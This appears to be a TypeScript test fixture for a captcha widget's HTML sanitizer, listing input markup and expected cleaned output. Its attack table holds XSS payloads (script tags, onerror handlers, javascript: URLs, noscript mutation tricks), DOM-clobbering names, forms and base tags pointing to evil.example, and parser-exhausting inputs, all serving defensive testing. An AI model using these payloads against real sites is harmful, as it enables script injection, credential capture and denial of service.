/** A server's captcha markup, and the output of the widget for it. `{api}` is replaced by the base URL of the API. */
export type Drawn = [markup: string, drawn: string];

const image = (src: string, alt = '{name}', size = ''): string =>
  `<img class="latchkey-captcha-image" alt="${alt}"${size} referrerpolicy="no-referrer" src="${src}">`;

export const ordinary: Drawn[] = [
  [
    '<div class="a"><label for=x>Type &amp; copy<br>this</label><img src="{api}/c.png" alt="code" width=200 height="60"></div>',
    `<div><span>Type &amp; copy<br>this</span>${image('{api}/c.png', 'code', ' width="200" height="60"')}</div>`,
  ],
  ['a < b & c &lt;img&gt; &#x3c; &amp;lt; &eacute;', 'a &lt; b &amp; c &lt;img&gt; &lt; &amp;lt; é'],
  ['<div><span>unclosed', '<div><span>unclosed</span></div>'],
  ['</div></div>t', 't'],
  ['<!-- <img src=x> --><!doctype html>t', 't'],
  ['<img src="data:image/png;base64,AAAA">', image('data:image/png;base64,AAAA')],
];

/**
 * Hardening cases 43 to 48. None of this markup may run, load from another host, or look like a field of the
 * widget.
 */
export const attacks: Drawn[] = [
  ['<script>alert(1)</script>', ''],
  ['<SCRIPT/x>alert(1)</script >after', 'after'],
  ['<scr<script>ipt>alert(1)</script>', ''],
  ['<img src={api}/x onerror=alert(1)>', image('{api}/x')],
  [
    '<img src="{api}/x" id=latchkey-root name=userId style="position:fixed" usemap=#m srcset="//evil.example/1.png">',
    image('{api}/x'),
  ],
  ['<img src="{api}/x" width=1e9 height="100%">', image('{api}/x')],
  [
    '<img src="{api}/x" alt="&quot; onerror=&quot;alert(1)">',
    image('{api}/x', '&quot; onerror=&quot;alert(1)'),
  ],
  ['<img src="javascript:alert(1)">', ''],
  ['<img src="java&#10;script:alert(1)">', ''],
  ['<img src="data:image/svg+xml;base64,AAAA">', ''],
  ['<img src="data:text/html,<script>alert(1)</script>">', ''],
  ['<img src="//evil.example/x.png"><img src="https://evil.example/x.png">', ''],
  ['<img src="https://user@evil.example/x.png">', ''],
  ['<img src="x', ''],
  ['<audio src=//evil.example/a.wav autoplay></audio><video src=//evil.example/v></video>x', 'x'],
  ['<iframe srcdoc="<script>1</script>"></iframe>x', 'x'],
  ['<object data=//evil.example></object><embed src=//evil.example>x', 'x'],
  ['<svg><a href="javascript:1">x</a></svg>y', 'y'],
  ['<svg><script>alert(1)</script></svg><math><mi>z</mi></math>y', 'y'],
  ['<a href="javascript:alert(1)" id=config target=_top>text</a>', 'text'],
  [
    '<form action=//evil.example><input name=userId value=1><input name=_csrf value=2><button name=submit>go</button></form>',
    'go',
  ],
  ['<form id=a><form id=b>nested</form></form>', 'nested'],
  ['<input name=captchaAnswer value=1><input name=password><select name=action><option>o</select>t', 't'],
  ['<label for=latchkey-1-1_captchaAnswer id=userId>l</label>', '<span>l</span>'],
  ['<p style="position:fixed" onclick=x()>t</p>', '<div>t</div>'],
  ['<style>*{display:none}</style>t', 't'],
  ['<base href=//evil.example><meta http-equiv=refresh content=0><link rel=stylesheet href=x>t', 't'],
  ['<textarea></textarea><b>x', '<strong>x</strong>'],
  ['<textarea><b>swallowed', ''],
  ['<plaintext>all the rest </div>', ''],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>t', 't'],
  ['<template><b>x</b></template><xmp><b>y</b></xmp>t', 't'],
  ['<constructor>t</constructor><__proto__>', '&lt;__proto__&gt;'],
  ['<x-y><b>custom</b></x-y>t', 't'],
];

/** Markup that is difficult for a parser. */
export const endless = (): string[] => [
  '<div>'.repeat(100_000),
  '<x>'.repeat(150_000),
  '<a '.repeat(150_000),
  '<script>'.repeat(60_000),
  '&'.repeat(400_000),
  '&lt;'.repeat(100_000),
  `<img src="${'x'.repeat(2_000_000)}">`,
  '<!--'.repeat(100_000),
  '</div>'.repeat(80_000),
  '</p>'.repeat(80_000),
  '<table><b>'.repeat(40_000),
];

/** Replaces the API and the image names in a row of the tables above. */
export const filled = (text: string, api: string, name: string): string =>
  text.replaceAll('{api}', api).replaceAll('{name}', name);
